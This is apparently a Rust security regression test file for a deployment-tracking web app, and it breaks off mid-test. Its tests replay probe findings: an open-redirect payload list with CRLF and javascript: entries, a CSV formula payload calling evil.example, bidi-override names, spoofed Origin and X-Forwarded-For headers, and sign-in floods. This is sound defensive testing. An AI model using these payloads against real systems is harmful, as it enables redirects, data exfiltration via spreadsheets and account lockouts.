//! Issue 10, "Holds under abuse": each finding of the outside probe as the attack it was, over
//! real HTTP, on both backends.

use crate::{Node, nodes};
use grenzeloos_domain::access::Role;
use reqwest::Method;
use serde_json::{Value, json};

async fn status_json(response: reqwest::Response, status: u16) -> Value {
    let got = response.status().as_u16();
    let body = response.text().await.unwrap();
    assert_eq!(got, status, "{body}");
    serde_json::from_str(&body).unwrap()
}

async fn id_of(node: &Node, role: Role, path: &str, body: Value) -> String {
    let created = status_json(node.send_json(role, Method::POST, path, body).await, 201).await;
    created["id"].as_str().unwrap().to_string()
}

/// An account as `GET /api/v1/users` shows it to an admin.
async fn user_named(node: &Node, username: &str) -> Value {
    let users: Value = node
        .get(Role::Admin, "/api/v1/users")
        .await
        .json()
        .await
        .unwrap();
    users
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["username"] == username)
        .unwrap()
        .clone()
}

/// The `name=value` of the session cookie an answer sets.
fn session_cookie(answer: &reqwest::Response) -> String {
    answer.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string()
}

// -- smaller findings ----------------------------------------------------------------------------

/// Finding: an error message repeated the offending value whole, a 15 MiB field included.
#[tokio::test]
async fn error_messages_echo_only_a_short_prefix_of_the_offending_value() {
    let huge = "9".repeat(15 * 1024 * 1024);
    for node in nodes().await {
        // A date field the domain refuses.
        let mission = json!({"name": "Proefmissie", "mandated_by": "EU", "start": huge,
            "countries": "XK", "station": "Pristina"});
        let answer = status_json(
            node.send_json(Role::Policy, Method::POST, "/api/v1/missions", mission)
                .await,
            400,
        )
        .await;
        assert_eq!(answer["field"], "start", "{}", node.backend);
        let message = answer["message"].as_str().unwrap();
        assert!(
            message.len() < 200,
            "{}: {} bytes",
            node.backend,
            message.len()
        );
        assert!(message.starts_with("'9999"), "{message}");
        // A JSON value of the wrong type, which the JSON reader quotes.
        let team = json!({"name": "T", "mission_id": "x", "task": "t", "start": "2024-01-01",
            "contributions": [{"partner": "NL", "officers": huge}]});
        let answer = status_json(
            node.send_json(Role::Policy, Method::POST, "/api/v1/teams", team)
                .await,
            400,
        )
        .await;
        let message = answer["message"].as_str().unwrap();
        assert!(
            message.len() < 400,
            "{}: {} bytes",
            node.backend,
            message.len()
        );
        assert!(message.contains("invalid type: string"), "{message}");
        // A query parameter.
        let long = "7".repeat(8000);
        let answer = status_json(
            node.get(Role::Policy, &format!("/api/v1/missions?as_of={long}"))
                .await,
            400,
        )
        .await;
        assert!(answer["message"].as_str().unwrap().len() < 200);
        // An unknown id in the path.
        let answer = status_json(
            node.get(Role::Policy, &format!("/api/v1/missions/{long}"))
                .await,
            404,
        )
        .await;
        assert!(answer["message"].as_str().unwrap().len() < 200);
    }
}

/// Finding: names and free text took control characters and bidirectional overrides.
#[tokio::test]
async fn names_and_free_text_refuse_control_characters_and_bidirectional_overrides() {
    for node in nodes().await {
        let refused = |path: &'static str, role: Role, body: Value, field: &'static str| {
            let node = &node;
            async move {
                let answer =
                    status_json(node.send_json(role, Method::POST, path, body).await, 422).await;
                assert_eq!(answer["error"], "invalid_character", "{path}: {answer}");
                assert_eq!(answer["field"], field, "{path}: {answer}");
            }
        };
        let officer = |family: &str| json!({"personnel_number": "SEC-1", "given_name": "Jan", "family_name": family, "gender": "male"});
        refused(
            "/api/v1/officers",
            Role::Deployment,
            officer("\u{202e}nesnaJ"),
            "family_name",
        )
        .await;
        refused(
            "/api/v1/officers",
            Role::Deployment,
            officer("Jan\u{85}sen"),
            "family_name",
        )
        .await;
        refused(
            "/api/v1/missions",
            Role::Policy,
            json!({"name": "Missie\nNieuw", "mandated_by": "EU", "start": "2024-01-01",
                "countries": "XK", "station": "Pristina"}),
            "name",
        )
        .await;
        refused(
            "/api/v1/agreements",
            Role::Policy,
            json!({"title": "Verdrag", "kind": "treaty", "status": "negotiating",
                "parties": ["BE"], "subject": "samen\u{7}werking"}),
            "subject",
        )
        .await;
        refused(
            "/api/v1/developments",
            Role::Policy,
            json!({"date": "2024-03-01", "topic": "eu", "title": "Stand",
                "text": "De \u{2066}stand\u{2069} van zaken"}),
            "text",
        )
        .await;
        // A narrative keeps its line breaks.
        let kept = node
            .send_json(
                Role::Policy,
                Method::POST,
                "/api/v1/developments",
                json!({"date": "2024-03-01", "topic": "eu", "title": "Stand",
                    "text": "Eerste alinea.\n\nTweede alinea."}),
            )
            .await;
        assert_eq!(kept.status(), 201, "{}", kept.text().await.unwrap());
    }
}

/// Finding: `.....` passed for the purpose of reading personal data.
#[tokio::test]
async fn a_stated_purpose_must_say_something() {
    for node in nodes().await {
        for empty in [".....", "xxxxxxxx", "12345%2067890", "a%20b"] {
            let answer = status_json(
                node.get(
                    Role::Deployment,
                    &format!("/api/v1/officers?purpose={empty}"),
                )
                .await,
                400,
            )
            .await;
            assert_eq!(answer["error"], "purpose_required", "{empty}");
            assert_eq!(answer["field"], "purpose");
        }
        let read = node
            .get(Role::Deployment, "/api/v1/officers?purpose=rotatie%20EULEX")
            .await;
        assert_eq!(read.status(), 200, "{}", node.backend);
    }
}

/// Finding: a cell starting with `=`, `+`, `-`, `@`, tab or CR went into the CSV exports as it
/// was, and a spreadsheet runs it as a formula.
#[tokio::test]
async fn every_csv_export_shows_formula_cells_as_text() {
    for node in nodes().await {
        // The overview: a mission whose name and station are formulas, with an officer there.
        let mission = id_of(
            &node,
            Role::Policy,
            "/api/v1/missions",
            json!({"name": "=HYPERLINK(\"http://evil.example/\"&A1)", "mandated_by": "EU",
                "start": "2024-01-01", "countries": "XK", "station": "@SUM(A1:A9)"}),
        )
        .await;
        let officer = id_of(
            &node,
            Role::Deployment,
            "/api/v1/officers",
            json!({"personnel_number": "SEC-CSV", "given_name": "Jan", "family_name": "Jansen", "gender": "male"}),
        )
        .await;
        id_of(
            &node,
            Role::Deployment,
            "/api/v1/deployments",
            json!({"officer_id": officer, "mission_id": mission, "function": "Adviseur",
                "start": "2024-02-01", "status": "deployed", "consent_date": "2024-01-15"}),
        )
        .await;
        let csv = node
            .get(
                Role::Policy,
                "/api/v1/reports/deployments?as_of=2024-04-17&format=csv",
            )
            .await
            .text()
            .await
            .unwrap();
        assert!(
            csv.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\"")
                && csv.contains(",'@SUM(A1:A9),"),
            "{}: {csv}",
            node.backend
        );
        assert!(!csv.contains("\n=") && !csv.contains(",@"), "{csv}");
        // The audit export: a purpose is typed by the user.
        let read = node
            .get(
                Role::Deployment,
                "/api/v1/officers?purpose=%3D1%2B1%20staffing%20review",
            )
            .await;
        assert_eq!(read.status(), 200);
        let export = node.get(Role::Supervisor, "/audit/export.csv").await;
        assert_eq!(export.status(), 200, "{}", node.backend);
        let export = export.text().await.unwrap();
        assert!(
            export.contains(",'=1+1 staffing review,"),
            "{}: {export}",
            node.backend
        );
        assert!(!export.contains(",=1+1"));
    }
}

/// Finding: an update could move a contact record (phone, next of kin) to another officer.
#[tokio::test]
async fn a_contact_record_cannot_be_moved_to_another_officer() {
    for node in nodes().await {
        let purpose = "purpose=bereikbaarheid%20check";
        let contacts: Value = node
            .get(Role::Deployment, &format!("/api/v1/contacts?{purpose}"))
            .await
            .json()
            .await
            .unwrap();
        let first = contacts[0].clone();
        let id = first["id"].as_str().unwrap().to_string();
        let other = id_of(
            &node,
            Role::Deployment,
            "/api/v1/officers",
            json!({"personnel_number": "SEC-MOVE", "given_name": "Els", "family_name": "Elzinga", "gender": "female"}),
        )
        .await;
        let mut moved = first.clone();
        moved["officer_id"] = json!(other);
        let answer = status_json(
            node.send_json(
                Role::Deployment,
                Method::PUT,
                &format!("/api/v1/contacts/{id}"),
                moved,
            )
            .await,
            422,
        )
        .await;
        assert_eq!(
            (answer["error"].as_str(), answer["field"].as_str()),
            (Some("cannot_move"), Some("officer_id")),
            "{}",
            node.backend
        );
        let still: Value = node
            .get(
                Role::Deployment,
                &format!("/api/v1/contacts/{id}?{purpose}"),
            )
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(still["officer_id"], first["officer_id"]);
        assert_eq!(still["versions"].as_array().unwrap().len(), 1);
        // Changing the contact itself still works.
        let mut changed = first.clone();
        changed["phone"] = json!("+31 6 1234 5678");
        let saved = node
            .send_json(
                Role::Deployment,
                Method::PUT,
                &format!("/api/v1/contacts/{id}"),
                changed,
            )
            .await;
        assert_eq!(saved.status(), 200, "{}", saved.text().await.unwrap());
    }
}

// -- redirects -----------------------------------------------------------------------------------

/// The tricks that made `next` leave the site, or break the answer (a 500 for CR/LF).
const FOREIGN_NEXT: &[&str] = &[
    "/%09/evil.example",
    "//evil.example",
    "/%5Cevil.example",
    "/%5C/evil.example",
    "%5C%5Cevil.example",
    "/%0D%0ASet-Cookie:%20x=1",
    "/%0A/evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "%20/evil.example",
    "/%20/evil.example",
    "/%C2%A0/evil.example",
    "/%00/evil.example",
    "/%E2%80%AE/evil.example",
];

/// Finding: `GET /lang/en?next=/%09/evil.example` answered `303 Location: /\t/evil.example`,
/// which browsers follow to `http://evil.example/`; a CR or LF there gave a 500.
#[tokio::test]
async fn the_language_switch_goes_back_only_to_a_page_of_this_site() {
    for node in nodes().await {
        for next in FOREIGN_NEXT {
            let answer = node
                .http
                .get(node.url(&format!("/lang/en?next={next}")))
                .send()
                .await
                .unwrap();
            assert_eq!(answer.status(), 303, "{}: {next}", node.backend);
            assert_eq!(answer.headers()["location"], "/", "{next}");
        }
        let answer = node
            .http
            .get(node.url("/lang/en?next=/missions%3Fas_of%3D2024-04-17"))
            .send()
            .await
            .unwrap();
        assert_eq!(answer.headers()["location"], "/missions?as_of=2024-04-17");
    }
}

/// The same for the page after signing in (the form's hidden field, and the form posted) and
/// after stating a purpose.
#[tokio::test]
async fn sign_in_and_the_purpose_page_go_on_only_to_a_page_of_this_site() {
    for node in nodes().await {
        for next in FOREIGN_NEXT {
            let page = node
                .http
                .get(node.url(&format!("/login?next={next}")))
                .send()
                .await
                .unwrap();
            assert_eq!(page.status(), 200, "{next}");
            let html = page.text().await.unwrap();
            assert!(
                html.contains("name=\"next\" value=\"/\""),
                "{}: {next}",
                node.backend
            );
            let body = format!("username=r-policy&password=test+password+123&next={next}");
            let signed_in = node
                .http
                .post(node.url("/login"))
                .header("content-type", "application/x-www-form-urlencoded")
                .body(body)
                .send()
                .await
                .unwrap();
            assert_eq!(signed_in.status(), 303, "{next}");
            assert_eq!(signed_in.headers()["location"], "/", "{next}");
            let cookie = session_cookie(&signed_in);
            let stated = node
                .http
                .post(node.url("/purpose"))
                .header("cookie", &cookie)
                .header("x-csrf-token", csrf_of(&node, &cookie).await)
                .header("content-type", "application/x-www-form-urlencoded")
                .body(format!("purpose=rotatie+EULEX&next={next}"))
                .send()
                .await
                .unwrap();
            assert_eq!(stated.status(), 303, "{next}");
            assert_eq!(stated.headers()["location"], "/", "{next}");
        }
    }
}

/// The CSRF token of a signed-in cookie session, from `GET /api/v1/session`.
async fn csrf_of(node: &Node, cookie: &str) -> String {
    let me: Value = node
        .http
        .get(node.url("/api/v1/session"))
        .header("cookie", cookie)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    me["csrf_token"].as_str().unwrap().to_string()
}

// -- separation of duties -------------------------------------------------------------------------

/// Finding: an admin could give itself the supervisor role and then read the audit trail.
#[tokio::test]
async fn an_admin_cannot_give_itself_the_supervisor_role_over_the_api_or_the_page() {
    for node in nodes().await {
        let own = user_named(&node, "r-admin").await["id"]
            .as_str()
            .unwrap()
            .to_string();
        for (roles, code) in [
            (json!(["admin", "supervisor"]), "separation_of_duties"),
            (json!(["supervisor"]), "own_roles"),
        ] {
            let answer = status_json(
                node.send_json(
                    Role::Admin,
                    Method::PUT,
                    &format!("/api/v1/users/{own}"),
                    json!({"roles": roles, "active": true}),
                )
                .await,
                422,
            )
            .await;
            assert_eq!(answer["error"], code, "{}", node.backend);
            assert_eq!(answer["field"], "roles");
        }
        let created = status_json(
            node.send_json(
                Role::Admin,
                Method::POST,
                "/api/v1/users",
                json!({"username": "beide", "roles": ["admin", "supervisor"], "password": "long enough password"}),
            )
            .await,
            422,
        )
        .await;
        assert_eq!(created["error"], "separation_of_duties");
        // The page refuses the same (the form posts the checkboxes).
        let page = node
            .as_role(
                Role::Admin,
                node.http.post(node.url(&format!("/users/{own}"))).form(&[
                    ("role", "admin"),
                    ("role", "supervisor"),
                    ("active", "true"),
                ]),
            )
            .send()
            .await
            .unwrap();
        assert_eq!(page.status(), 400, "{}", node.backend);
        assert!(page.text().await.unwrap().contains("toezichthouder"));
        // Still no audit trail for the admin.
        assert_eq!(node.get(Role::Admin, "/api/v1/audit").await.status(), 403);
    }
}

// -- tokens ---------------------------------------------------------------------------------------

/// Signs in over the API and returns the session cookie and its CSRF token.
async fn api_session(node: &Node, username: &str, agent: &str) -> (String, String) {
    let answer = node
        .http
        .post(node.url("/api/v1/session"))
        .header("user-agent", agent)
        .json(&json!({"username": username, "password": "test password 123"}))
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 200, "{}", node.backend);
    let cookie = session_cookie(&answer);
    let body: Value = answer.json().await.unwrap();
    (cookie, body["csrf_token"].as_str().unwrap().to_string())
}

/// Finding: a stolen API token could create new tokens (up to 366 days) that survive revoking
/// the original. Only a session signed in with the password makes tokens now, for at most the
/// configured lifetime, and the list says where each came from.
#[tokio::test]
async fn a_token_cannot_make_tokens_and_the_list_shows_their_origin() {
    for node in nodes().await {
        let stolen = node
            .send_json(
                Role::Policy,
                Method::POST,
                "/api/v1/tokens",
                json!({"name": "persistence", "valid_days": 366}),
            )
            .await;
        let answer = status_json(stolen, 403).await;
        assert_eq!(answer["error"], "session_required", "{}", node.backend);
        let (cookie, csrf) = api_session(&node, "r-policy", "curl/8.5.0").await;
        let too_long = node
            .http
            .post(node.url("/api/v1/tokens"))
            .header("cookie", &cookie)
            .header("x-csrf-token", &csrf)
            .json(&json!({"name": "jaarrapport", "valid_days": 91}))
            .send()
            .await
            .unwrap();
        let answer = status_json(too_long, 422).await;
        assert_eq!(answer["field"], "valid_days");
        let made = node
            .http
            .post(node.url("/api/v1/tokens"))
            .header("cookie", &cookie)
            .header("x-csrf-token", &csrf)
            .header("user-agent", "python-requests/2.31")
            .json(&json!({"name": "maandrapport"}))
            .send()
            .await
            .unwrap();
        let made = status_json(made, 201).await;
        let secret = made["secret"].as_str().unwrap().to_string();
        let listed: Value = node
            .http
            .get(node.url("/api/v1/tokens"))
            .bearer_auth(&secret)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let mine = listed
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["name"] == "maandrapport")
            .unwrap();
        assert_eq!(mine["created_from"], "api_session", "{}", node.backend);
        assert_eq!(mine["client_address"], "127.0.0.1");
        assert_eq!(mine["user_agent"], "Python");
        assert!(mine.get("secret").is_none() && mine.get("token_hash").is_none());
        // The new token cannot make another one either.
        let again = node
            .http
            .post(node.url("/api/v1/tokens"))
            .bearer_auth(&secret)
            .json(&json!({"name": "nog een"}))
            .send()
            .await
            .unwrap();
        assert_eq!(again.status(), 403);
    }
}

// -- sign-in throttling ---------------------------------------------------------------------------

/// Finding: a locked account answered 429 with its unlock time and an unknown one 401, which
/// told which accounts exist. Locked (waiting), unknown and wrong password now get the same
/// status and body, over the API and on the sign-in page.
#[tokio::test]
async fn sign_in_answers_alike_for_a_waiting_an_unknown_and_a_wrong_password() {
    for node in nodes().await {
        let api = |username: &'static str, password: &'static str| {
            let node = &node;
            async move {
                let answer = node
                    .http
                    .post(node.url("/api/v1/session"))
                    .json(&json!({"username": username, "password": password}))
                    .send()
                    .await
                    .unwrap();
                let status = answer.status().as_u16();
                assert!(answer.headers().get("retry-after").is_none());
                (status, answer.text().await.unwrap())
            }
        };
        let page = |username: &'static str, password: &'static str| {
            let node = &node;
            async move {
                let answer = node
                    .http
                    .post(node.url("/login"))
                    .form(&[
                        ("username", username),
                        ("password", password),
                        ("next", "/"),
                    ])
                    .send()
                    .await
                    .unwrap();
                (answer.status().as_u16(), answer.text().await.unwrap())
            }
        };
        let unknown = api("r-nobody", "test password 123").await;
        let wrong = api("r-liaison", "wrong password").await;
        assert_eq!(unknown.0, 401, "{}", node.backend);
        assert_eq!(unknown, wrong, "{}", node.backend);
        for _ in 0..node.app.settings.max_failed_logins {
            api("r-liaison", "wrong password").await;
        }
        // The right password, but the attempts have to wait now.
        let waiting = api("r-liaison", "test password 123").await;
        assert_eq!(waiting, wrong, "{}", node.backend);
        let waiting_page = page("r-liaison", "test password 123").await;
        let wrong_page = page("r-liaison", "another wrong one").await;
        assert_eq!(waiting_page.0, 401);
        assert_eq!(waiting_page, wrong_page, "{}", node.backend);
    }
}

/// Finding: five failed sign-ins every 15 minutes kept any known account locked. Behind a
/// trusted proxy, an attacker at one address makes the account wait for strangers only: its
/// owner at a familiar address signs in, and an admin releases it (page and API, audited).
#[tokio::test]
async fn a_sign_in_flood_cannot_keep_the_owner_out_and_an_admin_releases_the_account() {
    let config = grenzeloos_web::WebConfig {
        trusted_proxies: vec!["127.0.0.1".parse().unwrap()],
        ..Default::default()
    };
    for node in crate::nodes_with(config).await {
        let sign_in = |from: &'static str, password: &'static str| {
            let node = &node;
            async move {
                node.http
                    .post(node.url("/api/v1/session"))
                    .header("x-forwarded-for", from)
                    .json(&json!({"username": "r-spoc", "password": password}))
                    .send()
                    .await
                    .unwrap()
                    .status()
                    .as_u16()
            }
        };
        // The owner has signed in from the office before.
        assert_eq!(sign_in("192.0.2.10", "test password 123").await, 200);
        // The flood: from one address, and from many.
        for _ in 0..20 {
            sign_in("203.0.113.66", "guess").await;
        }
        for i in 0..20 {
            sign_in(
                ["203.0.113.1", "203.0.113.2", "203.0.113.3", "203.0.113.4"][i % 4],
                "guess",
            )
            .await;
        }
        // A stranger's address (the owner travelling) waits,
        assert_eq!(sign_in("198.51.100.20", "test password 123").await, 401);
        let spoc = user_named(&node, "r-spoc").await;
        assert!(spoc["locked_until"].is_string(), "{}: {spoc}", node.backend);
        // but the owner at the office signs in all the same (which starts the account afresh).
        assert_eq!(
            sign_in("192.0.2.10", "test password 123").await,
            200,
            "{}: the owner was kept out",
            node.backend
        );
        for i in 0..20 {
            sign_in(
                ["203.0.113.1", "203.0.113.2", "203.0.113.3", "203.0.113.4"][i % 4],
                "guess",
            )
            .await;
        }
        assert_eq!(sign_in("198.51.100.20", "test password 123").await, 401);
        // … until an admin releases the account, on the users page,
        let page = node.get(Role::Admin, "/users").await.text().await.unwrap();
        let id = spoc["id"].as_str().unwrap();
        assert!(
            page.contains(&format!("action=\"/users/{id}/unlock\"")),
            "{page}"
        );
        let released = node
            .as_role(
                Role::Admin,
                node.http.post(node.url(&format!("/users/{id}/unlock"))),
            )
            .send()
            .await
            .unwrap();
        assert_eq!(released.status(), 200, "{}", node.backend);
        assert_eq!(sign_in("198.51.100.20", "test password 123").await, 200);
        // or over the API.
        for i in 0..20 {
            sign_in(
                ["203.0.113.5", "203.0.113.6", "203.0.113.7", "203.0.113.8"][i % 4],
                "guess",
            )
            .await;
        }
        assert_eq!(sign_in("198.51.100.21", "test password 123").await, 401);
        let released = node
            .send_json(
                Role::Admin,
                Method::POST,
                &format!("/api/v1/users/{id}/unlock"),
                json!({}),
            )
            .await;
        assert_eq!(released.status(), 200);
        assert_eq!(sign_in("198.51.100.21", "test password 123").await, 200);
        let released: Value = node
            .get(Role::Supervisor, "/api/v1/audit?action=user.unlock")
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(released.as_array().unwrap().len(), 2, "{}", node.backend);
        assert_eq!(released[0]["actor"], "r-admin");
    }
}

/// Without a trusted proxy, `X-Forwarded-For` is the client's own word: ignored.
#[tokio::test]
async fn a_forwarded_address_from_an_untrusted_peer_is_ignored() {
    for node in nodes().await {
        for i in 0..node.app.settings.max_failed_logins {
            node.http
                .post(node.url("/api/v1/session"))
                .header("x-forwarded-for", format!("203.0.113.{i}"))
                .json(&json!({"username": "r-nobody", "password": "guess"}))
                .send()
                .await
                .unwrap();
        }
        // The address (127.0.0.1) has used its free attempts, whatever the header said.
        let answer = node
            .http
            .post(node.url("/api/v1/session"))
            .header("x-forwarded-for", "198.51.100.77")
            .json(&json!({"username": "r-policy", "password": "test password 123"}))
            .send()
            .await
            .unwrap();
        assert_eq!(answer.status(), 401, "{}", node.backend);
    }
}

/// Finding: sign-in checked only `Sec-Fetch-Site`; without it, a form posted from another site
/// signed the user in to the attacker's account. `Origin`, else `Referer`, decides then.
#[tokio::test]
async fn sign_in_checks_origin_and_referer_when_sec_fetch_site_is_missing() {
    for node in nodes().await {
        let host = node.base.trim_start_matches("http://").to_string();
        let form = [
            ("username", "r-policy"),
            ("password", "test password 123"),
            ("next", "/"),
        ];
        for (header, value, status) in [
            ("origin", "https://evil.example".to_string(), 403),
            ("origin", "null".to_string(), 403),
            ("referer", "https://evil.example/login".to_string(), 403),
            ("sec-fetch-site", "same-site".to_string(), 403),
            ("origin", format!("http://{host}"), 303),
            ("referer", format!("http://{host}/login?next=/"), 303),
        ] {
            let page = node
                .http
                .post(node.url("/login"))
                .header(header, &value)
                .form(&form)
                .send()
                .await
                .unwrap();
            assert_eq!(page.status(), status, "{}: {header}: {value}", node.backend);
            assert_eq!(page.headers().get("set-cookie").is_some(), status == 303);
            let api = node
                .http
                .post(node.url("/api/v1/session"))
                .header(header, &value)
                .json(&json!({"username": "r-policy", "password": "test password 123"}))
                .send()
                .await
                .unwrap();
            assert_eq!(
                api.status(),
                if status == 303 { 200 } else { 403 },
                "{header}: {value}"
            );
        }
    }
}

// -- metrics --------------------------------------------------------------------------------------

const METRICS_TOKEN: &str = "metrics-token-0123456789abcdef";

/// Finding: anyone, without signing in, could grow the server's memory through `/metrics`: the
/// method label took any invented method (200 requests grew it from 72 KB to 507 KB, for good).
#[tokio::test]
async fn invented_methods_and_paths_do_not_grow_the_metrics() {
    let config = grenzeloos_web::WebConfig {
        metrics_token: Some(grenzeloos_web::Secret::new(METRICS_TOKEN)),
        ..Default::default()
    };
    for node in crate::nodes_with(config).await {
        let metrics = || async {
            let answer = node
                .http
                .get(node.url("/metrics"))
                .bearer_auth(METRICS_TOKEN)
                .send()
                .await
                .unwrap();
            assert_eq!(answer.status(), 200, "{}", node.backend);
            answer.text().await.unwrap()
        };
        node.get(Role::Policy, "/api/v1/missions").await;
        let before = metrics().await;
        for i in 0..200 {
            let method = reqwest::Method::from_bytes(format!("INVENTED{i}").as_bytes()).unwrap();
            node.http
                .request(
                    method,
                    node.url(&format!("/api/v1/missions/{i}/nothing-{i}")),
                )
                .send()
                .await
                .unwrap();
            node.get(Role::Policy, &format!("/api/v1/officers/{i}-not-an-id"))
                .await;
        }
        let after = metrics().await;
        assert!(!after.contains("INVENTED"), "{}", node.backend);
        assert!(!after.contains("nothing-") && !after.contains("not-an-id"));
        assert!(
            after.contains("method=\"other\",route=\"unmatched\""),
            "{after}"
        );
        assert!(after.contains(
            "grenzeloos_http_requests_total{method=\"GET\",route=\"/api/v1/missions\",status=\"200\"}"
        ));
        // A handful of new series (other/unmatched, the officers route's 403), not 400.
        let series = |text: &str| text.lines().filter(|l| !l.starts_with('#')).count();
        assert!(
            series(&after) <= series(&before) + 8,
            "{}: {} series before, {} after",
            node.backend,
            series(&before),
            series(&after)
        );
    }
}

/// `/metrics` on the main listener answers only with the metrics token, and not at all when
/// none is configured.
#[tokio::test]
async fn metrics_need_the_metrics_token_on_the_main_listener() {
    let config = grenzeloos_web::WebConfig {
        metrics_token: Some(grenzeloos_web::Secret::new(METRICS_TOKEN)),
        ..Default::default()
    };
    for node in crate::nodes_with(config).await {
        let get = |auth: Option<String>| {
            let node = &node;
            async move {
                let mut request = node.http.get(node.url("/metrics"));
                if let Some(auth) = auth {
                    request = request.header("authorization", auth);
                }
                request.send().await.unwrap().status().as_u16()
            }
        };
        assert_eq!(get(None).await, 401, "{}", node.backend);
        assert_eq!(get(Some(format!("Bearer {METRICS_TOKEN}x"))).await, 401);
        assert_eq!(get(Some("Bearer metrics-token".into())).await, 401);
        assert_eq!(
            get(Some(format!("Bearer {}", node.tokens[&Role::Admin]))).await,
            401
        );
        assert_eq!(get(Some(format!("Bearer {METRICS_TOKEN}"))).await, 200);
    }
    // Without a token configured: not served on the main listener.
    for node in nodes().await {
        let status = node
            .http
            .get(node.url("/metrics"))
            .send()
            .await
            .unwrap()
            .status();
        assert_eq!(status, 404, "{}", node.backend);
    }
}

/// With a separate metrics address, the metrics are served there without a token, and still
/// not on the main listener.
#[tokio::test]
async fn metrics_are_served_on_their_own_address() {
    for (backend, store) in grenzeloos_store::testing::fresh_stores().await {
        let app = grenzeloos_app::App::new(store);
        let main = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let metrics = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let (main_url, metrics_url) = (
            format!("http://{}", main.local_addr().unwrap()),
            format!("http://{}", metrics.local_addr().unwrap()),
        );
        tokio::spawn(grenzeloos_web::serve_with_metrics(
            main,
            Some(metrics),
            app,
            grenzeloos_web::WebConfig::default(),
        ));
        let http = reqwest::Client::new();
        assert_eq!(
            http.get(format!("{main_url}/healthz"))
                .send()
                .await
                .unwrap()
                .status(),
            200
        );
        let main_metrics = http
            .get(format!("{main_url}/metrics"))
            .send()
            .await
            .unwrap();
        assert_eq!(main_metrics.status(), 404, "{backend}");
        let served = http
            .get(format!("{metrics_url}/metrics"))
            .send()
            .await
            .unwrap();
        assert_eq!(served.status(), 200, "{backend}");
        let text = served.text().await.unwrap();
        assert!(
            text.contains("route=\"/healthz\",status=\"200\""),
            "{backend}: {text}"
        );
        // Only the metrics live there.
        let other = http
            .get(format!("{metrics_url}/api/v1/missions"))
            .send()
            .await
            .unwrap();
        assert_eq!(other.status(), 404);
    }
}

// -- imports --------------------------------------------------------------------------------------

const DEPLOYMENTS_HEADER: &str = "mission,personnel_number,given_name,family_name,gender,rank,unit,function,start,end,status,consent_date";

/// Finding: errors were not capped. An import answers with its first 100 errors by line and
/// the total count.
#[tokio::test]
async fn an_import_lists_its_first_hundred_errors_and_counts_them_all() {
    for node in nodes().await {
        let mut csv = format!("{DEPLOYMENTS_HEADER}\n");
        for i in 0..5000 {
            // Alternately a date no calendar has and a mission that does not exist.
            if i % 2 == 0 {
                csv.push_str(&format!(
                    "EULEX Kosovo,BAD-{i},A,B,male,,,F,2025-02-30,,planned,\n"
                ));
            } else {
                csv.push_str(&format!(
                    "Atlantis,BAD-{i},A,B,male,,,F,2025-01-01,,planned,\n"
                ));
            }
        }
        let answer = node
            .as_role(
                Role::Deployment,
                node.http
                    .post(node.url("/api/v1/imports/deployments?dry_run=true"))
                    .header("content-type", "text/csv")
                    .body(csv),
            )
            .send()
            .await
            .unwrap();
        let body = status_json(answer, 422).await;
        assert_eq!(body["error_count"], 5000, "{}", node.backend);
        let errors = body["errors"].as_array().unwrap();
        assert_eq!(errors.len(), 100);
        let lines: Vec<i64> = errors.iter().map(|e| e["line"].as_i64().unwrap()).collect();
        assert_eq!(lines, (2..102).collect::<Vec<i64>>());
        assert_eq!(errors[0]["field"], "start");
        assert_eq!(errors[1]["field"], "mission");
        assert!(body["message"].as_str().unwrap().contains("5000 error(s)"));
    }
}

/// Sends a request by hand, so that the body can be held back or streamed in chunks.
async fn raw_request(base: &str, head: &str, body: &[u8]) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::TcpStream::connect(base.trim_start_matches("http://"))
        .await
        .unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    // The server may answer and close before it has taken the whole body.
    let _ = stream.write_all(body).await;
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(
        std::time::Duration::from_secs(20),
        stream.read_to_end(&mut answer),
    )
    .await;
    String::from_utf8_lossy(&answer).into_owned()
}

/// Finding: 50,001 rows were refused only after 33 s. A file over the configured size is now
/// refused with 413 before it is read: at once when its Content-Length says so, and as soon as
/// a chunked upload passes the limit.
#[tokio::test]
async fn an_import_over_the_configured_size_is_refused_with_413_before_it_is_read() {
    let config = grenzeloos_web::WebConfig {
        max_import_bytes: 64 * 1024,
        ..Default::default()
    };
    for node in crate::nodes_with(config).await {
        let token = &node.tokens[&Role::Deployment];
        let host = node.base.trim_start_matches("http://");
        // Announces 1 GiB and sends none of it: the answer comes without waiting for it.
        let answer = raw_request(
            &node.base,
            &format!(
                "POST /api/v1/imports/deployments?dry_run=true HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\nContent-Type: text/csv\r\nContent-Length: 1073741824\r\nConnection: close\r\n\r\n"
            ),
            b"",
        )
        .await;
        assert!(
            answer.starts_with("HTTP/1.1 413"),
            "{}: {answer}",
            node.backend
        );
        assert!(answer.contains("\"too_large\""), "{answer}");
        // Chunked, no length: refused once the chunks pass 64 KiB.
        let chunk = format!("{:x}\r\n{}\r\n", 16 * 1024, "x".repeat(16 * 1024));
        let answer = raw_request(
            &node.base,
            &format!(
                "POST /api/v1/imports/deployments?dry_run=true HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\nContent-Type: text/csv\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
            ),
            chunk.repeat(8).as_bytes(),
        )
        .await;
        assert!(
            answer.starts_with("HTTP/1.1 413"),
            "{}: {answer}",
            node.backend
        );
        // The import page refuses the same.
        let form = format!(
            "--X\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\ndeployments\r\n--X\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.csv\"\r\nContent-Type: text/csv\r\n\r\n{}\r\n--X--\r\n",
            "x".repeat(80 * 1024)
        );
        let page = node
            .as_role(
                Role::Deployment,
